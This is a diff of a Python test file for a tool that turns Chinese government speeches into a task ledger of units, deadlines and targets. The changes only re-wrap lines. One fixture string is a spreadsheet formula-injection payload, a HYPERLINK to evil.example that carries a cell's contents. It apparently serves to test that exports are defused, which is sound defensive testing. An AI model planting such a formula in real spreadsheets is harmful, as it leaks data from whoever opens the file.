@@ -51,7 +51,8 @@ def taizhang(led):
          "deadlines": [("7月底前", "2024-07-31")], "targets": [("15%以上", "规模工业增加值", 15, "%", ">=")]},
         {"text": "区工业和信息化局要在8月5日前完成企业走访。", "units": [("区工业和信息化局", "lead")],
          "deadlines": [("8月5日前", "2024-08-05")]},
-        {"text": "县工信局牵头、财政局配合，年底前建成重点项目库。", "units": [("县工信局", "lead"), ("财政局", "support")],
+        {"text": "县工信局牵头、财政局配合，年底前建成重点项目库。",
+         "units": [("县工信局", "lead"), ("财政局", "support")],
          "deadlines": [("年底前", "2024-12-31")]},
         {"text": "=HYPERLINK(\"http://evil.example/\"&A1,\"点此查看\")要落实。"},
         {"text": "商务局要加快推進產業鏈延鏈補鏈。", "units": [("商务局", "lead")]},
@@ -294,7 +295,8 @@ def test_status_at_a_past_date_needs_a_reason_and_history_is_in_time_order(taizh
     assert main(["status", tid, "推进中", "--by", "督查室", "--db", led.url]) == 0
     assert main(["status", tid, "已完成", "--by", "督查室", "--at", "2024-06-30", "--db", led.url]) == 2
     assert "--reason" in capsys.readouterr().err
-    assert main(["status", tid, "未开始", "--by", "督查室", "--at", "2099-01-01", "--reason", "x", "--db", led.url]) == 2
+    assert main(["status", tid, "未开始", "--by", "督查室", "--at", "2099-01-01", "--reason", "x",
+                 "--db", led.url]) == 2
     assert main(["status", tid, "已完成", "--by", "督查室", "--at", "2024-06-30", "--reason", "会议确认，补录",
                  "--db", led.url]) == 0
     capsys.readouterr()
@@ -383,9 +385,11 @@ def test_metric_names_are_normalised_before_grouping(ex):
 
 def test_trend_plot_groups_metrics_leaves_out_undated_and_warns_without_cjk_font(led, tmp_path, capsys,
                                                                                   monkeypatch):
-    _add_speech(led, "a.txt", [{"text": "规模以上工业增加值增长8%。", "targets": [("8%", "规模以上工业增加值", 8, "%", ">=")]}],
+    _add_speech(led, "a.txt", [{"text": "规模以上工业增加值增长8%。",
+                                "targets": [("8%", "规模以上工业增加值", 8, "%", ">=")]}],
                 date="2023-02-01")
-    _add_speech(led, "b.txt", [{"text": "2.规模工业增加值增长9%。", "targets": [("9%", "2.规模工业增加值", 9, "%", ">=")]}],
+    _add_speech(led, "b.txt", [{"text": "2.规模工业增加值增长9%。",
+                                "targets": [("9%", "2.规模工业增加值", 9, "%", ">=")]}],
                 date="2024-02-01")
     _add_speech(led, "c.txt", [{"text": "规上工业增加值增长7%。", "targets": [("7%", "规上工业增加值", 7, "%", ">=")]}],
                 date=None)
